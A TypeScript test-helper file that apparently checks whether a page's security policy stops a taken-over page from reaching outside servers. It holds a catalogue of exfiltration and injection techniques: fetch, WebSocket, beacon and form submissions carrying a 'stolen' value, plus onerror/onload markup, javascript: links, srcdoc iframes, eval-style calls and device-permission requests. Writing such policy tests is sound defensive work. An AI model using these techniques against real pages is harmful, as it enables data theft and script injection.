/**
 * What a page that was taken over would try, to be heard elsewhere. Each function is sent to the page as text: it can use
 * nothing outside of itself.
 */

/** Hears what the policy forbids from now on; `readForbidden` tells it. */
export function listenForForbidden(): void {
  const all = window as unknown as { forbidden?: Set<string> };
  const forbidden = new Set<string>();
  all.forbidden = forbidden;
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
    forbidden.add(effectiveDirective),
  );
}

export const readForbidden = (): readonly string[] =>
  [...((window as unknown as { forbidden?: Set<string> }).forbidden ?? [])].toSorted();

/** Asks a server in every way that scripts have. @param server as `http://127.0.0.1:1234`. @returns those that got an answer */
export async function askByScript(server: string): Promise<readonly string[]> {
  const answered: string[] = [];
  const attempt = async (way: string, ask: () => unknown): Promise<void> => {
    try {
      await ask();
      answered.push(way);
    } catch {
      // Refused.
    }
  };
  /** Resolves when it is open, rejects when it fails. */
  const opening = (target: EventTarget): Promise<unknown> =>
    new Promise((resolve, reject) => {
      target.addEventListener('open', resolve, { once: true });
      target.addEventListener('load', resolve, { once: true });
      target.addEventListener('error', reject, { once: true });
    });
  await attempt('fetch', () => fetch(`${server}/fetch`, { mode: 'no-cors' }));
  await attempt('keepalive', () =>
    fetch(`${server}/keepalive`, { method: 'POST', mode: 'no-cors', keepalive: true }),
  );
  await attempt('XMLHttpRequest', () => {
    const request = new XMLHttpRequest();
    request.open('GET', `${server}/xhr`);
    const done = opening(request);
    request.send();
    return done;
  });
  await attempt('WebSocket', () => opening(new WebSocket(server.replace('http', 'ws'))));
  await attempt('EventSource', () => opening(new EventSource(`${server}/events`)));
  await attempt('import', () => import(`${server}/module.js`));
  await attempt('Worker', () => opening(new Worker(`${server}/worker.js`)));
  await attempt('FontFace', () => new FontFace('stolen', `url(${server}/font.woff2)`).load());
  await attempt('service worker', () => navigator.serviceWorker.register(`${server}/service.js`));
  // It promises nothing: the server is to tell.
  navigator.sendBeacon(`${server}/beacon`, 'stolen');
  return answered;
}

/** Writes markup into the page that asks a server, or runs. @returns what of it ran */
export async function writeMarkup(server: string): Promise<readonly string[]> {
  const all = window as unknown as { ran?: string[] };
  all.ran = [];
  const place = document.createElement('div');
  document.body.append(place);
  const markup = [
    `<img src="${server}/img.png" onerror="ran.push('onerror')">`,
    `<svg onload="ran.push('svg')"><image href="${server}/image.svg"/><use href="${server}/use.svg#a"/></svg>`,
    `<video src="${server}/video.mp4" autoplay></video>`,
    `<audio src="${server}/audio.mp3" autoplay></audio>`,
    `<object data="${server}/object"></object>`,
    `<embed src="${server}/embed">`,
    `<iframe src="${server}/frame"></iframe>`,
    `<iframe srcdoc="<script>parent.ran.push('srcdoc')</script>"></iframe>`,
    `<iframe src="data:text/html,<script>parent.ran.push('data')</script>"></iframe>`,
    `<link rel="stylesheet" href="${server}/style.css">`,
    `<link rel="preload" as="fetch" href="${server}/preload">`,
    `<link rel="prefetch" href="${server}/prefetch">`,
    `<link rel="manifest" href="${server}/manifest.json">`,
    `<style>@import url("${server}/import.css"); body { background: url("${server}/bg.png") }</style>`,
    `<p style="background: url('${server}/attribute.png')">text</p>`,
    `<a id="by-script" href="javascript:ran.push('javascript')">click</a>`,
    `<a id="by-ping" href="#/hosts" ping="${server}/ping">click</a>`,
    `<base href="${server}/">`,
  ].join('');
  place.innerHTML = markup;
  document.head.append(...place.querySelectorAll('link, style, base'));
  document.getElementById('by-script')?.click();
  document.getElementById('by-ping')?.click();
  const script = document.createElement('script');
  script.src = 'relative-to-a-base.js';
  const worker = (): void => {
    const source = new Blob(["postMessage('ran')"], { type: 'text/javascript' });
    const running = new Worker(URL.createObjectURL(source));
    running.onmessage = () => all.ran?.push('blob worker');
  };
  try {
    worker();
  } catch {
    // Refused.
  }
  await new Promise((resolve) => {
    script.onload = resolve;
    script.onerror = resolve;
    document.head.append(script);
  });
  // Not sooner: what a debugger runs by itself may evaluate.
  try {
    new Function("ran.push('Function')")();
  } catch {
    // Refused.
  }
  try {
    setTimeout("ran.push('timeout')" as unknown as () => void);
  } catch {
    // Refused.
  }
  await new Promise((resolve) => setTimeout(resolve));
  place.remove();
  for (const element of document.head.querySelectorAll('base, link[rel=prefetch], style')) {
    element.remove();
  }
  return all.ran;
}

/** Sends forms to a server: in this window, and in another. */
export function sendForms(server: string): void {
  for (const target of ['_self', '_blank', '_top']) {
    for (const method of ['get', 'post']) {
      const form = document.createElement('form');
      form.action = `${server}/form`;
      form.method = method;
      form.target = target;
      form.innerHTML = '<input name="secret" value="stolen">';
      document.body.append(form);
      form.submit();
      form.remove();
    }
  }
}

/** Goes to an address by everything that goes without a click. */
export function goWithoutAClick(address: string): void {
  location.assign(address);
  location.replace(address);
  const refresh = document.createElement('meta');
  refresh.httpEquiv = 'refresh';
  refresh.content = `0;url=${address}`;
  document.head.append(refresh);
  refresh.remove();
}

/** Goes to a page that this one made itself. */
export function goToOwnBlob(): void {
  location.href = URL.createObjectURL(new Blob(['<p>made</p>'], { type: 'text/html' }));
}

/** Saves what an address holds. */
export function download(address: string): void {
  const link = document.createElement('a');
  link.href = address;
  link.download = 'stolen.txt';
  link.click();
}

/** @returns for each device and sense how it was refused, or `given` */
export async function askForDevices(): Promise<Readonly<Record<string, string>>> {
  const outcome = async (ask: () => Promise<unknown>): Promise<string> => {
    try {
      await ask();
      return 'given';
    } catch (error) {
      return (error as Error).name;
    }
  };
  const all = navigator as unknown as Record<
    'usb' | 'hid' | 'serial' | 'bluetooth',
    { requestDevice(options: object): Promise<unknown>; requestPort(): Promise<unknown> }
  >;
  return {
    microphone: await outcome(() => navigator.mediaDevices.getUserMedia({ audio: true })),
    screen: await outcome(() => navigator.mediaDevices.getDisplayMedia({ video: true })),
    wakeLock: await outcome(() => navigator.wakeLock.request('screen')),
    usb: await outcome(() => all.usb.requestDevice({ filters: [] })),
    serial: await outcome(() => all.serial.requestPort()),
  };
}

/** Whether what is shown is the interface. */
export const isInterface = (): boolean => document.querySelector('nav[aria-label=Pages]') !== null;
